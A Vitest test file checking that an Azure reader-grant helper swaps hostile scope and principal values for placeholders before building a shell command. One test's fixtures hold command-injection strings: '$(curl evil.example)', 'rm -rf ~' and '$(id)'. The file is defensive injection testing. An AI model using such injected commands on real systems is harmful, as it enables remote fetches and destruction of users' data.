// readerGrant: the scope and principal come from ARM's 403 text; a hostile one never reaches the shell command.
import { describe, expect, it } from 'vitest';
import { readerGrant } from '../../../src/facts/control-plane/read-control-plane';

describe('readerGrant', () => {
  it('puts a GUID-shaped subscription into the command', () => {
    const g = readerGrant('/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/rg', '0a1b2c3d-0000-4000-8000-0123456789ab');
    expect(g.command).toMatch(/--scope \/subscriptions\/11111111-2222-3333-4444-555555555555$/);
  });

  it('uses placeholders for a hostile scope or principal', () => {
    const g = readerGrant("/subscriptions/$(curl evil.example);rm -rf ~'/x", 'a;b$(id)');
    expect(g.command).toContain('--scope /subscriptions/<subscription-id>');
    expect(g.command).toContain('--assignee-object-id <principal-id>');
    expect(g.command).not.toMatch(/\$\(|;/);
  });
});
